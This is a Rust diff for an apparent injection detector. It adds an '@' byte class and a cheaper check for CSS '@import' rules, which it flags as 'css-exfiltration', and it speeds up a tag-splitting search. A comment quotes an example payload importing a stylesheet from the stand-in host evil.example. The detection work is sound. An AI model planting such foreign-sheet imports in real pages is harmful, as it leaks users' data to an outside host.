@@ -185,6 +185,8 @@ mod class {
     pub const FOLD_LEAD: u32 = 1 << 16;
     pub const SEMI: u32 = 1 << 17;
     pub const RBRACE: u32 = 1 << 18;
+    /// `@`, without which no CSS at-rule (`@import`) can name a sheet to load.
+    pub const AT: u32 = 1 << 19;
     /// The punctuation that code puts around a sink it calls or passes (`;`, braces, a
     /// backtick, `[`, `=`): one test of the classes instead of another pass over the value.
     pub const CODE: u32 = SEMI | LBRACE | RBRACE | BACKTICK | LBRACKET | EQ;
@@ -240,6 +242,7 @@ static CLASS: [u32; 256] = {
     t[b'+' as usize] = class::PLUS;
     t[b';' as usize] = class::SEMI;
     t[b'}' as usize] = class::RBRACE;
+    t[b'@' as usize] = class::AT;
     let mut i = 0x80;
     while i < 256 {
         t[i] = class::HIGH;
@@ -287,7 +290,7 @@ fn scalar_classes(b: &[u8]) -> u32 {
 /// [`classes`] 32 bytes at a time (values of at least 32 bytes). A byte's classes are read from two 16-entry tables, one
 /// indexed by its low nibble and one by its high nibble (`vpshufb`): bit `k` of both
 /// entries is set exactly when the byte is in the `k`-th set of [`NIBBLE_SETS`], each set
-/// a product of high and low nibbles. Three pairs of tables hold the 21 sets; the bits a
+/// a product of high and low nibbles. Three pairs of tables hold the 22 sets; the bits a
 /// block shows are OR-ed up, and each pair's byte of bits maps to [`class`] bits at the end.
 #[cfg(target_arch = "x86_64")]
 mod wide {
@@ -303,22 +306,22 @@ mod wide {
     pub(super) use crate::avx2_available as available;
 
     /// The bytes that carry a [`CLASS`] bit below `0x80`, one set each.
-    const SINGLES: &[u8; 18] = b"<=:(`{%&\\'\"[*/\0+;}";
+    const SINGLES: &[u8; 19] = b"<=:(`{%&\\'\"[*/\0+;}@";
 
     /// The sets, `(high nibbles, low nibbles)` as bit masks of nibble values, and the class
     /// bits a member byte carries: each single byte; every byte from `0x80` (`HIGH`); the
     /// lead bytes `C2` and `E2 E3 EF` (`FOLD_LEAD`, with `HIGH` from the set before).
-    const NIBBLE_SETS: [(u16, u16, u32); 21] = {
-        let mut t = [(0u16, 0u16, 0u32); 21];
+    const NIBBLE_SETS: [(u16, u16, u32); 22] = {
+        let mut t = [(0u16, 0u16, 0u32); 22];
         let mut k = 0;
         while k < SINGLES.len() {
             let x = SINGLES[k];
             t[k] = (1 << (x >> 4), 1 << (x & 15), CLASS[x as usize]);
             k += 1;
         }
-        t[18] = (0xff00, 0xffff, super::class::HIGH);
-        t[19] = (1 << 0xc, 1 << 2, super::class::FOLD_LEAD);
-        t[20] = (
+        t[19] = (0xff00, 0xffff, super::class::HIGH);
+        t[20] = (1 << 0xc, 1 << 2, super::class::FOLD_LEAD);
+        t[21] = (
             1 << 0xe,
             (1 << 2) | (1 << 3) | (1 << 0xf),
             super::class::FOLD_LEAD,
@@ -649,7 +652,8 @@ fn analyze_classes(v: &str, markup: bool, m: u32, first: bool) -> Option<&'stati
         return Some("css-exfiltration");
     }
     // `@import "//evil.example/x.css";`: needs an `@` and the rule's target after it
-    if has_at_import(b) && css::imports_foreign_sheet(v) {
+    // (the class test first: most values have no `@` to search for)
+    if m & class::AT != 0 && has_at_import(b) && css::imports_foreign_sheet(v) {
         return Some("css-exfiltration");
     }
     // `with (…)`: needs a parenthesis
@@ -704,9 +708,22 @@ fn split_by_tags(b: &[u8]) -> Option<String> {
         }
         k > 0 && b[k - 1] == b'<'
     };
-    let first = memchr::memchr_iter(b'<', b)
-        .take(256)
-        .find(|&p| p > 0 && inside(p) && empty_tag_end(b, p).is_some())?;
+    // `inside(p)` holds exactly when the `<` before `p` is at most `MAX_SPLIT_TAG + 2` bytes
+    // back with only letters and `/` between (the run `inside` walks back over ends at that
+    // `<`, which is neither): the positions come in order, so the search keeps the previous
+    // one and tests the gap, instead of walking back over the text before every `<` (in
+    // rich text mostly a word before a closing tag).
+    let mut prev: Option<usize> = None;
+    let first = memchr::memchr_iter(b'<', b).take(256).find(|&p| {
+        let after_open = prev.is_some_and(|j| {
+            p - j <= MAX_SPLIT_TAG + 2
+                && b[j + 1..p]
+                    .iter()
+                    .all(|&c| c.is_ascii_alphabetic() || c == b'/')
+        });
+        prev = Some(p);
+        after_open && empty_tag_end(b, p).is_some()
+    })?;
     let mut out = Vec::with_capacity(b.len());
     out.extend_from_slice(&b[..first]);
     let mut i = first;
